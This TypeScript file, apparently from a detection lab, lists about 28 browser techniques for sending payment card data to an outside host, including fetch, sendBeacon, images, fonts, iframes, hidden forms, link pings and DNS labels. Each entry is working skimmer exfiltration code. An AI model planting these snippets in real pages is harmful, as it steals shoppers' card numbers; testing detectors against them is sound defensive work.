/** Channels that are requests of the page itself, or of what it makes the browser load. */
import type { LabChannel } from './channel.ts';

const sent = (expression: string): string => `onCard(function(n,all){${expression}});`;
const tag = (name: string, attribute: string, more = ''): string =>
  sent(`var e=document.createElement('${name}');${more}e.${attribute}=to+'/x?d='+n;document.head.append(e);`);

export const REQUESTS: readonly LabChannel[] = [
  {
    name: 'fetch-text',
    how: 'fetch, text',
    code: sent(`quiet(fetch(to+'/c',{method:'POST',mode:'no-cors',keepalive:true,body:all}));`),
    seen: 'plain',
  },
  {
    name: 'fetch-blob',
    how: 'fetch, Blob',
    code: sent(`quiet(fetch(to+'/c',{method:'POST',mode:'no-cors',keepalive:true,body:new Blob([all])}));`),
    seen: 'plain',
  },
  {
    name: 'fetch-bytes',
    how: 'fetch, bytes',
    code: sent(
      `quiet(fetch(to+'/c',{method:'POST',mode:'no-cors',keepalive:true,body:new TextEncoder().encode(all)}));`,
    ),
    seen: 'plain',
  },
  {
    name: 'fetch-multipart',
    how: 'fetch, FormData with a file',
    code: sent(
      `var f=new FormData();f.append('f',new Blob([all]),'log.txt');quiet(fetch(to+'/c',{method:'POST',mode:'no-cors',keepalive:true,body:f}));`,
    ),
    seen: 'plain',
  },
  {
    name: 'fetch-header',
    how: 'fetch, header of a preflighted request',
    code: sent(`quiet(fetch(to+'/c',{headers:{'x-trace':n},keepalive:true}));`),
    seen: 'plain',
  },
  {
    name: 'fetch-path',
    how: 'fetch, path',
    code: sent(`quiet(fetch(to+'/p/'+n+'.json',{mode:'no-cors',keepalive:true}));`),
    seen: 'plain',
  },
  {
    name: 'xhr',
    how: 'XMLHttpRequest when the number is typed',
    code: `var f=document.querySelector('[autocomplete="cc-number"]');f&&f.addEventListener('change',function(){
var x=new XMLHttpRequest();x.open('POST',to+'/c');x.send(digits());});`,
    seen: 'plain',
  },
  { name: 'beacon-text', how: 'sendBeacon, text', code: sent(`navigator.sendBeacon(to+'/c',all);`), seen: 'plain' },
  {
    name: 'beacon-blob',
    how: 'sendBeacon, Blob',
    code: sent(`navigator.sendBeacon(to+'/c',new Blob([all],{type:'text/plain'}));`),
    seen: 'plain',
  },
  {
    name: 'beacon-pagehide',
    how: 'sendBeacon while the page is being left',
    code: `var kept='';onCard(function(n,all){kept=all;});addEventListener('pagehide',function(){kept&&navigator.sendBeacon(to+'/c',new Blob([kept]));});`,
    seen: 'plain',
  },
  {
    name: 'fetch-pagehide',
    how: 'fetch with keepalive while the page is being left',
    code: `var kept='';onCard(function(n,all){kept=all;});addEventListener('pagehide',function(){kept&&quiet(fetch(to+'/c',{method:'POST',mode:'no-cors',keepalive:true,body:new Blob([kept])}));});`,
    seen: 'plain',
  },
  {
    name: 'fetch-later',
    how: 'fetchLater, sent by the browser after the page',
    code: sent(
      `window.fetchLater?fetchLater(to+'/c',{method:'POST',mode:'no-cors',body:all}):navigator.sendBeacon(to+'/c',all);`,
    ),
    seen: 'plain',
  },
  { name: 'image', how: 'image', code: sent(`new Image().src=to+'/i.gif?d='+n;`), seen: 'plain' },
  { name: 'script-tag', how: 'script element', code: tag('script', 'src'), seen: 'plain' },
  { name: 'module', how: 'dynamic import', code: sent(`quiet(import(to+'/m.js?d='+n));`), seen: 'plain' },
  { name: 'stylesheet', how: 'stylesheet', code: tag('link', 'href', `e.rel='stylesheet';`), seen: 'plain' },
  {
    name: 'css-url',
    how: 'url() in CSS',
    code: sent(`document.body.style.backgroundImage='url('+to+'/b.png?d='+n+')';document.body.offsetWidth;`),
    seen: 'plain',
  },
  {
    name: 'font',
    how: 'font of @font-face',
    code: sent(`quiet(new FontFace('x','url('+to+'/f.woff2?d='+n+')').load());`),
    seen: 'plain',
  },
  {
    name: 'video',
    how: 'video source',
    code: sent(
      `var v=document.createElement('video');v.preload='auto';v.src=to+'/v.mp4?d='+n;document.body.append(v);`,
    ),
    seen: 'plain',
  },
  { name: 'prefetch', how: 'link rel=prefetch', code: tag('link', 'href', `e.rel='prefetch';`), seen: 'plain' },
  {
    name: 'iframe',
    how: 'address of an iframe',
    code: sent(`var f=document.createElement('iframe');f.src=to+'/f?d='+n;document.body.append(f);`),
    seen: 'plain',
  },
  {
    name: 'iframe-message',
    how: 'postMessage to an iframe, which sends it',
    code: `var f=document.createElement('iframe');f.hidden=true;f.src=to+'/relay';document.body.append(f);
onCard(function(n,all){f.contentWindow.postMessage(all,'*');});`,
    seen: 'plain',
  },
  {
    name: 'form',
    how: 'form posted into a hidden iframe',
    code: sent(
      `var f=document.createElement('iframe');f.name='sink';f.hidden=true;document.body.append(f);var s=document.createElement('form');s.method='post';s.action=to+'/c';s.target='sink';s.innerHTML='<input name=d>';s.d.value=n;document.body.append(s);HTMLFormElement.prototype.submit.call(s);`,
    ),
    seen: 'plain',
  },
  {
    name: 'popup',
    how: 'window that opens',
    code: sent(`window.open(to+'/w?d='+n,'_blank','popup,width=10,height=10');`),
    seen: 'plain',
  },
  {
    name: 'anchor-ping',
    how: 'ping of a link',
    code: sent(
      `var a=document.createElement('a');a.href='#';a.ping=to+'/ping?d='+n;document.body.append(a);a.click();`,
    ),
    seen: 'plain',
  },
  {
    name: 'referrer',
    how: 'Referer of an image',
    code: sent(
      `history.replaceState(null,'','?n='+n);var i=new Image();i.referrerPolicy='unsafe-url';i.src=to+'/r.gif';setTimeout(function(){history.replaceState(null,'',location.pathname);},0);`,
    ),
    seen: 'plain',
  },
  { name: 'event-source', how: 'EventSource', code: sent(`new EventSource(to+'/e?d='+n);`), seen: 'plain' },
  {
    name: 'host-label',
    how: 'label of a host name',
    code: sent(`new Image().src=to.replace('//','//n'+n+'.')+'/h.gif';`),
    seen: 'plain',
    silent: true,
  },
];
